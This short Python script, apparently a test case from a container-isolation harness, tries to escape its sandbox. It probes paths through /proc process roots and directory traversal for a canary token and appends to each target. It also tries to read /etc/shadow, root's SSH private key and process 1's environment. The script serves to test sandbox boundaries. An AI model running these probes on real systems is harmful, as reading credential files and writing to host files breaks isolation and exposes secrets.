# /// attack
# tries = "overwrites and reads the host's files by name, through /proc of every process, and up from every folder"
# base = "blank"
# docker = true
# ///
import glob
import os

PLACES = ["@canary@", "/proc/1/root@canary@", "/proc/self/cwd/../../../../../../..@canary@", "/../../..@canary@"]
PLACES += [f"{root}@canary@" for root in glob.glob("/proc/[0-9]*/root")]
PLACES += ["/etc/shadow", "/root/.ssh/id_rsa", "/proc/1/environ", "/proc/self/mountinfo"]
for place in PLACES:
    try:
        if b"@token@" in open(place, "rb").read(300):
            print("WORKED", place, flush=True)
    except OSError:
        pass
    try:
        with open(place, "a") as file:
            file.write("x")
        print("WORKED", place, flush=True)
    except OSError:
        pass
